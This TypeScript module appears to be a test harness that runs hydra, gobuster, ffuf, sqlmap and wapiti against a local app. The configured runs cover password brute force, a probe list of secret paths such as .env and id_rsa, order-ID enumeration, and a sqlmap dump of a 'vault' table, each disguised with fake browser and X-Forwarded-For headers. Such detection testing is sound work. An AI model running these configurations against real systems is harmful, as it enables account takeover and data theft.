import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { agentOf, emailOf, logIn } from './people.js';
import { inFolder, runTool } from './run-tool.js';

/** An attacker with a tool, who calls from one address and says that his tool is a browser. */
export interface Raider {
  readonly tool: 'hydra' | 'gobuster' | 'ffuf' | 'sqlmap' | 'wapiti';
  readonly address: string;
  /** Runs to its end; a tool that finds nothing may say so by its code. */
  run(url: string): Promise<void>;
}

/** Browsers' names that people have too. */
const browsers = {
  // Hydra takes a colon for the end of a header.
  hydra: agentOf(0),
  gobuster: agentOf(1),
  ffuf: agentOf(2),
  sqlmap: agentOf(3),
  wapiti: agentOf(0),
} satisfies Record<Raider['tool'], string>;

const inList = (home: string, name: string, lines: readonly (string | number)[]): string => {
  const path = join(home, name);
  writeFileSync(path, `${lines.join('\n')}\n`);
  return path;
};

const raider = (
  tool: Raider['tool'],
  address: string,
  argumentsOf: (url: string, home: string) => readonly string[] | Promise<readonly string[]>,
): Raider => ({
  tool,
  address,
  run: (url) =>
    inFolder(async (home) => {
      const args = await argumentsOf(url, home);
      await runTool(tool, args, home).catch((error: Error) => {
        // Its last word is its code: hydra and gobuster end with one when they found nothing.
        if (!/failed: /.test(error.message)) throw error;
      });
    }),
});

/** Ids that orders may have, in no order. */
const guesses = Array.from({ length: 150 }, (_, n) => 10_000 + ((n * 7919 + 7919 * 300) % 80_021));
const passwords = [
  '123456',
  'password',
  'qwerty',
  'letmein',
  'welcome1',
  'dragon',
  'monkey',
  'abc123',
  'iloveyou',
  'admin',
];
const paths = [
  ...[
    'admin',
    'administrator',
    'backup',
    'backup.zip',
    '.git/config',
    '.env',
    'wp-login.php',
    'phpinfo.php',
    'server-status',
  ],
  ...[
    'config.json',
    'db.sql',
    'dump.sql',
    'old',
    'test',
    'dev',
    'staging',
    'api/v1',
    'api/v2',
    'api/internal',
    'swagger.json',
  ],
  ...[
    'openapi.json',
    'graphql',
    'console',
    'actuator',
    'actuator/env',
    'metrics',
    'debug',
    'trace',
    'login',
    'api/login',
  ],
  ...[
    'api/admin',
    'api/admin/people',
    'api/users',
    'api/orders',
    'uploads',
    'files',
    'static',
    'private',
    'secret',
    'keys',
  ],
  ...[
    'id_rsa',
    'shell.php',
    'cgi-bin',
    'manager/html',
    'jenkins',
    'phpmyadmin',
    'adminer.php',
    'robots.txt',
    'sitemap.xml',
    'help',
  ],
];

export const raiders: readonly Raider[] = [
  raider('hydra', '198.51.100.21', (url, home) => [
    ...[
      '-L',
      inList(
        home,
        'names',
        Array.from({ length: 30 }, (_, n) => emailOf(n + 5)),
      ),
    ],
    ...['-P', inList(home, 'words', passwords), '-t', '4', '-I', '-s', new URL(url).port],
    ...['127.0.0.1', 'http-post-form'],
    // What it sends besides stands before what a failure says.
    `/api/login:email=^USER^&password=^PASS^:H=X-Forwarded-For\\: 198.51.100.21:H=User-Agent\\: ${browsers.hydra}:F=wrong`,
  ]),
  raider('gobuster', '198.51.100.22', (url, home) => [
    ...['dir', '-u', url, '-w', inList(home, 'paths', paths), '-t', '4', '-q', '-k', '--no-error'],
    ...['-a', browsers.gobuster, '-H', 'X-Forwarded-For: 198.51.100.22'],
  ]),
  raider('ffuf', '198.51.100.23', async (url, home) => [
    ...['-u', `${url}/api/orders/FUZZ`, '-w', inList(home, 'ids', guesses), '-t', '1', '-s', '-mc', 'all'],
    ...['-H', `User-Agent: ${browsers.ffuf}`, '-H', 'X-Forwarded-For: 198.51.100.23'],
    ...['-H', `Authorization: Bearer ${await logIn(url, 99, '198.51.100.23', browsers.ffuf)}`],
  ]),
  raider('sqlmap', '198.51.100.24', (url, home) => [
    ...[
      '-u',
      `${url}/api/search?q=lamp&category=garden`,
      '-p',
      'category',
      '--dbms',
      'sqlite',
      '--batch',
      '--disable-coloring',
    ],
    ...[
      '--flush-session',
      '--skip-waf',
      '--user-agent',
      browsers.sqlmap,
      '--headers',
      'X-Forwarded-For: 198.51.100.24',
    ],
    ...[
      '--technique',
      'BEU',
      '--threads',
      '4',
      '--output-dir',
      join(home, 'output'),
      '--dump',
      '-T',
      'vault',
    ],
  ]),
  raider('wapiti', '198.51.100.25', (url, home) => [
    ...[
      '-u',
      `${url}/`,
      '--scope',
      'folder',
      '-m',
      'sql,exec,file,xss,crlf',
      '--flush-session',
      '--no-bugreport',
    ],
    ...[
      '-A',
      browsers.wapiti,
      '-H',
      'X-Forwarded-For: 198.51.100.25',
      '--max-scan-time',
      '30',
      '--max-attack-time',
      '10',
      '-d',
      '3',
    ],
    ...[
      '--store-session',
      join(home, 'session'),
      '--store-config',
      join(home, 'config'),
      '-f',
      'json',
      '-o',
      join(home, 'report'),
    ],
  ]),
];
